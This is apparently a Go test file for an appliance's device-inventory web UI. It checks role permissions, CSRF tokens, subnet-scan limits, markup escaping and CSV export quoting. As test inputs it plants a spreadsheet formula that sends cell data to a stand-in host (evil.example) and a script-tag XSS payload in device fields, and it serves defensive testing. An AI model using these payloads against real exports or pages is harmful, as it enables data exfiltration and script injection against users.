package appliance_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"outpost/store"
)

// TestInventoryAttacks, against the real daemon's UI: a viewer cannot
// decide about devices or touch the discovery subnets, a technician can
// scan but not enable subnets (that is a config change, an admin's), a
// subnet nobody enabled is never swept on request, a form without the
// session's token is refused, and a device that names itself like a
// spreadsheet formula is exported as text.
func TestInventoryAttacks(t *testing.T) {
	d := startUIDaemon(t)
	admin := d.claim(t)
	page := getUI(t, admin, d.base+"/settings")
	for _, u := range []struct{ name, role string }{{"vera", "viewer"}, {"tom", "technician"}} {
		if got := postUI(t, admin, d.base+"/settings/users", url.Values{"csrf": {csrfOf(t, page.body)}, "user": {u.name}, "role": {u.role}, "password": {"Toner-Drum-2041"}}); got.code >= 400 {
			t.Fatalf("adding %s: %d", u.name, got.code)
		}
	}
	// A hostile device on the LAN: its name and vendor are what it says.
	if _, err := d.a.Store().RecordSweep("127.0.0.0/29", time.Now(), []store.Sighting{
		{IP: "127.0.0.2", MAC: "02:00:00:00:00:02", Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Vendor: "<script>alert(1)</script>", Class: "unknown"},
	}); err != nil {
		t.Fatal(err)
	}
	login := func(user string) (*http.Client, string) {
		c := lanClient(t, "")
		p := getUI(t, c, d.base+"/login")
		if got := postUI(t, c, d.base+"/login", url.Values{"csrf": {csrfOf(t, p.body)}, "user": {user}, "password": {"Toner-Drum-2041"}}); got.code != http.StatusSeeOther {
			t.Fatalf("login %s: %d", user, got.code)
		}
		p = getUI(t, c, d.base+"/inventory")
		if p.code != 200 {
			t.Fatalf("%s: inventory page %d", user, p.code)
		}
		return c, csrfOf(t, p.body)
	}
	key := url.PathEscape("02:00:00:00:00:02")
	viewer, vtok := login("vera")
	for _, path := range []string{"/inventory/" + key + "/decide", "/inventory/" + key + "/merge", "/inventory/" + key + "/template", "/inventory/subnets", "/inventory/scan"} {
		if got := postUI(t, viewer, d.base+path, url.Values{"csrf": {vtok}, "class": {"printer"}, "cidr": {"127.0.0.0/29"}, "enabled": {"true"}, "drop": {"x"}}); got.code != http.StatusForbidden {
			t.Errorf("viewer POST %s: %d, want 403", path, got.code)
		}
	}
	tech, ttok := login("tom")
	if got := postUI(t, tech, d.base+"/inventory/subnets", url.Values{"csrf": {ttok}, "cidr": {"127.0.0.0/29"}, "enabled": {"true"}}); got.code != http.StatusForbidden {
		t.Errorf("technician enabling a subnet: %d, want 403", got.code)
	}
	if got := postUI(t, tech, d.base+"/inventory/"+key+"/template", url.Values{"csrf": {ttok}}); got.code != http.StatusForbidden {
		t.Errorf("technician applying a check template (a config change): %d, want 403", got.code)
	}
	got := postUI(t, tech, d.base+"/inventory/scan", url.Values{"csrf": {ttok}, "cidr": {"127.0.0.0/29"}})
	if got.code != http.StatusUnprocessableEntity || !strings.Contains(got.body, "127.0.0.0/29 is not an enabled discovery subnet") {
		t.Errorf("scanning a subnet nobody enabled: %d\n%s", got.code, got.body)
	}
	if got := postUI(t, tech, d.base+"/inventory/"+key+"/decide", url.Values{"class": {"printer"}}); got.code != http.StatusForbidden {
		t.Errorf("decide without a token: %d, want 403", got.code)
	}
	if got := postUI(t, tech, d.base+"/inventory/"+key+"/decide", url.Values{"csrf": {ttok}, "class": {"toaster"}}); got.code != http.StatusUnprocessableEntity || !strings.Contains(got.body, `class &#34;toaster&#34; is not one of`) {
		t.Errorf("an unknown class: %d\n%s", got.code, got.body)
	}
	if got := postUI(t, tech, d.base+"/inventory/"+key+"/decide", url.Values{"csrf": {ttok}, "class": {"printer"}, "name": {"front-printer"}}); got.code != http.StatusSeeOther {
		t.Errorf("technician decides: %d\n%s", got.code, got.body)
	}
	if dev, err := d.a.InventoryDevice("front-printer"); err != nil || dev.EffectiveClass() != "printer" || dev.Decision.By != "tom" {
		t.Errorf("decision not kept: %+v %v", dev, err)
	}
	if strings.Contains(string(d.a.ConfigYAML()), "127.0.0.0/29") {
		t.Error("the config gained a subnet nobody allowed to enable it")
	}

	// The export quotes what a spreadsheet would run; the page escapes
	// markup.
	page = getUI(t, tech, d.base+"/inventory")
	if strings.Contains(page.body, "<script>alert(1)</script>") {
		t.Error("the vendor's markup reached the page unescaped")
	}
	exp := getUI(t, tech, d.base+"/inventory.csv")
	if exp.code != 200 || !strings.HasPrefix(exp.header.Get("Content-Type"), "text/csv") || !strings.Contains(exp.header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export: %d %v", exp.code, exp.header)
	}
	recs, err := csv.NewReader(strings.NewReader(exp.body)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export %v:\n%s", err, exp.body)
	}
	for _, cell := range recs[1] {
		if strings.HasPrefix(cell, "=") {
			t.Errorf("a cell a spreadsheet runs: %q", cell)
		}
	}
}
